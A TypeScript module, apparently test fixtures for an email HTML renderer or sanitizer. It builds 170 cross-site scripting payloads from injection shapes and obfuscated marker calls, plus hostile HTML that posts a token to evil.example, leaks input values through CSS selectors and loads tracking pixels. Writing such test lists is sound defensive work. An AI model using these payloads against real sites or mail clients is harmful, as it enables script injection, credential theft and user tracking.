/** The calls that a payload may make; the page reports each with the number of the payload. */
const CALLS: readonly ((n: number) => string)[] = [
  (n) => `ran(${n})`,
  (n) => `ran\`${n}\``,
  (n) => `&#114;an(${n})`,
  (n) => `\\u0072an(${n})`,
  (n) => `top['r'+'an'](${n})`,
]

/** Texts an HTML, URL, CSS or template parser could run as a program or resolve to another host. */
const SHAPES: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<script src=//evil.example/${encodeURIComponent(call)}>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `"><img src=x onerror=${call}>`,
  (call) => `'><svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<iframe src="javascript:parent.${call}">`,
  (call) => `<object data="javascript:${call}">`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<style>@import '//evil.example/${encodeURIComponent(call)}'</style>`,
  (call) => `<link rel=stylesheet href=//evil.example/${encodeURIComponent(call)}>`,
  (call) => `<base href=//evil.example/><a href=${call}>`,
  (call) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>go`,
  (call) => `<a href="javascript:${call}">a</a>`,
  (call) => `<a href="data:text/html,<script>${call}</script>">`,
  (call) => `<math><mtext><table><style><img src=x onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `</title></textarea></style><img src=x onerror=${call}>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt&Tab;:${call}//`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `<!--\u202e--><img src=x onerror=${call}>`,
]

/** 170 stored payloads. */
export const PAYLOADS: readonly string[] = SHAPES.flatMap((shape, at) =>
  CALLS.map((call, way) => shape(call(at * CALLS.length + way))),
)

/** Bodies of mails that a program may render: programs, forms, and loads from another host. */
export const HOSTILE_HTML: readonly string[] = [
  ...PAYLOADS,
  '<form action=https://evil.example><input name=token><button>Confirm</button></form>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)} @font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  '<img src=https://evil.example/pixel><picture><source srcset=https://evil.example/2x></picture>',
  '<svg><image href=https://evil.example/s /><use href=https://evil.example/u#x /></svg>',
  '<table background=https://evil.example/t><video poster=https://evil.example/p></video></table>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
]
